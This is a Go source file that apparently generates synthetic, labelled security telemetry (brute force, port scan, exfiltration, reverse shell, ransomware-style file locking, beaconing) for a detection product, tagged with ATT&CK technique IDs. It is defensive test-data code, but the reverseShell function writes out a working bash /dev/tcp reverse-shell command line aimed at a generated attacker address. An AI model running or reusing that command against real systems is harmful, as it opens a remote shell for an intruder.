package synth

import (
	"fmt"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/amoskys/amoskys/internal/event"
	pb "github.com/amoskys/amoskys/internal/pb/amoskys/v1"
)

// incident plans one of the anomalies. All its events carry its name as label.
func (g *Generator) incident() {
	h := pick(g.rng, g.fleet.hosts)
	incidents := []func(*host){g.bruteForce, g.portScan, g.exfiltration, g.reverseShell, g.massEncryption, g.beacon}
	incidents[g.rng.IntN(len(incidents))](h)
}

// bruteForce tries passwords until one fits (ATT&CK T1110.001).
func (g *Generator) bruteForce(h *host) {
	from, user := g.hostile(), pick(g.rng, g.fleet.users)
	var at time.Duration
	for range 15 + g.rng.IntN(40) {
		from.Port = g.ephemeral()
		g.at(at, auth(h, user, &pb.Endpoint{Ip: from.GetIp(), Port: from.GetPort(), Hostname: from.GetHostname()}, "brute_force", false))
		at += g.length(300 * time.Millisecond)
	}
	g.at(at, auth(h, user, from, "brute_force", true))
}

// portScan touches one port after the other (T1046).
func (g *Generator) portScan(h *host) {
	from := g.hostile()
	var at time.Duration
	for port := range uint32(40 + g.rng.IntN(60)) {
		g.at(at, labelled("port_scan", &pb.Event{
			Type: event.TypeNetworkConnection, Host: h.msg,
			Body: &pb.Event_Network{Network: &pb.NetworkActivity{
				SrcEndpoint: &pb.Endpoint{Ip: from.GetIp(), Port: g.ephemeral(), Hostname: from.GetHostname()}, DstEndpoint: h.endpoint(port + 1),
				ProtocolName: "tcp", ProtocolNumber: 6, Direction: "inbound", TcpState: "SYN_RECV", StartTime: timestamppb.New(g.now.Add(at)),
			}},
		}))
		at += g.length(40 * time.Millisecond)
	}
	g.finding(at, h, "port_scan", "T1046", pb.Severity_SEVERITY_MEDIUM, map[string]string{"source.ip": from.GetIp(), "destination.ip": h.ip})
}

// exfiltration sends out far more than comes back (T1048).
func (g *Generator) exfiltration(h *host) {
	to := g.hostile()
	to.Port = 443
	took := g.length(40 * time.Second)
	g.plannedFlow(h, to, "https", "exfiltration", took, uint64(1+g.rng.IntN(9))<<30, 40_000)
	g.finding(took, h, "exfiltration", "T1048", pb.Severity_SEVERITY_HIGH, map[string]string{"source.ip": h.ip, "destination.ip": to.GetIp()})
}

// reverseShell connects a shell to the outside (T1059.004).
func (g *Generator) reverseShell(h *host) {
	to := g.hostile()
	to.Port = 4444
	line := fmt.Sprintf("bash -i >& /dev/tcp/%s/4444 0>&1", to.GetIp())
	p := h.process("bash", "/bin/bash", []string{"bash", "-c", line}, h.shell.GetUser(), g.now)
	p.Ppid = h.shell.GetPid()
	g.at(0, labelled("reverse_shell", execution(h, p, h.shell)))
	g.at(g.length(50*time.Millisecond), labelled("reverse_shell", &pb.Event{
		Type: event.TypeNetworkConnection, Host: h.msg,
		Body: &pb.Event_Network{Network: &pb.NetworkActivity{
			SrcEndpoint: h.endpoint(g.ephemeral()), DstEndpoint: to, ProtocolName: "tcp", ProtocolNumber: 6,
			Direction: "outbound", TcpState: "ESTABLISHED", Process: p,
		}},
	}))
}

// massEncryption rewrites one file after the other (T1486).
func (g *Generator) massEncryption(h *host) {
	p := h.process("updater", "/tmp/updater", []string{"/tmp/updater"}, h.shell.GetUser(), g.now)
	p.Ppid = h.shell.GetPid()
	g.at(0, labelled("mass_encryption", execution(h, p, h.shell)))
	var at time.Duration
	for i := range 50 + g.rng.IntN(100) {
		at += g.length(20 * time.Millisecond)
		g.at(at, labelled("mass_encryption",
			g.fileEvent(h, event.TypeFileModify, pb.FileAction_FILE_ACTION_MODIFY, fmt.Sprintf("document-%03d.pdf.locked", i), p)))
	}
}

// beacon calls home at steady intervals (T1071.001).
func (g *Generator) beacon(h *host) {
	to := g.hostile()
	to.Port = 443
	for i := range 12 {
		at := time.Duration(i)*10*time.Second + time.Duration(g.rng.IntN(200))*time.Millisecond
		g.at(at, labelled("beacon", &pb.Event{
			Type: event.TypeNetworkConnection, Host: h.msg,
			Body: &pb.Event_Network{Network: &pb.NetworkActivity{
				SrcEndpoint: h.endpoint(g.ephemeral()), DstEndpoint: to, ProtocolName: "tcp", ProtocolNumber: 6,
				Direction: "outbound", AppName: "https", TcpState: "ESTABLISHED", BytesOut: 312, BytesIn: 208,
			}},
		}))
	}
}
